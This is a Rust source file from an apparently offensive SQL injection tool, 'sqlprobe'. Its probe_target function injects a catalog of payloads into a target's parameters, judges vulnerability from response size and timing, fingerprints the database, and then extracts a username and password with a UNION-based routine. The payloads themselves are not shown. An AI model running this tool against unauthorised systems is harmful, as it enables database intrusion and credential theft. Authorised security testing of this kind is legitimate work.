// Request prober for sqlprobe
// Baseline request, then the payload catalog in order until one payload fires

use log::{debug, error, info};

use crate::config::ProbeSettings;
use crate::engine::AttackEngine;
use crate::extraction::extract_union;
use crate::models::{Finding, InjectionType, PayloadCatalog, Target};
use crate::mutator::{injection_point, mutate_target};
use crate::response_analysis::extract_form_tokens;
use crate::verdict::{decide_verdict, fingerprint_dbms, ResponseSample, Verdict};

/// Probe one target with every payload in the catalog.
///
/// Returns the first finding and stops there; later payloads are never sent.
/// A failed baseline request or a target with nothing to mutate yields `None`,
/// indistinguishable from a target that tested clean.
pub async fn probe_target(
    engine: &AttackEngine,
    target: &Target,
    catalog: &PayloadCatalog,
    settings: ProbeSettings,
) -> Option<Finding> {
    let Some(point) = injection_point(target) else {
        debug!("Skipping {}: no parameter to inject into", target.url);
        return None;
    };

    let baseline_resp = match engine.send(target).await {
        Ok(resp) => resp,
        Err(e) => {
            error!("Baseline request failed for {}: {}", target.url, e);
            return None;
        }
    };
    let baseline = ResponseSample {
        body_len: baseline_resp.body.len(),
        elapsed_secs: baseline_resp.elapsed_secs(),
    };

    let tokens = extract_form_tokens(&baseline_resp.body);
    if !tokens.is_empty() {
        debug!(
            "{} hidden form field(s) on {} (form action '{}')",
            tokens.hidden.len(),
            target.url,
            tokens.action
        );
    }

    for (label, payloads) in catalog.iter() {
        let injection_type = InjectionType::from_label(label);

        for payload in payloads {
            let Some(mutated) = mutate_target(target, payload, &tokens.hidden) else {
                continue;
            };

            if settings.verbose {
                info!("[{}] {} {} <- {}", label, target.method, target.url, payload);
            } else {
                debug!("[{}] {} {} <- {}", label, target.method, point, payload);
            }

            let resp = match engine.send(&mutated).await {
                Ok(resp) => resp,
                Err(e) => {
                    debug!("Payload request failed for {}: {}", target.url, e);
                    continue;
                }
            };

            let observed = ResponseSample {
                body_len: resp.body.len(),
                elapsed_secs: resp.elapsed_secs(),
            };
            let dbms = fingerprint_dbms(&resp.body, observed.elapsed_secs, settings.time_threshold_secs);

            if let Verdict::Vulnerable =
                decide_verdict(&injection_type, baseline, observed, dbms, settings.time_delay_secs)
            {
                info!("{} injection on {} ({}) via {}", label, target.url, dbms, point);
                let (username, password) =
                    extract_union(engine, dbms, target, settings.max_column_probe).await;

                return Some(Finding {
                    url: target.url.clone(),
                    dbms,
                    injection_type: label.to_string(),
                    username,
                    password,
                });
            }
        }
    }

    None
}
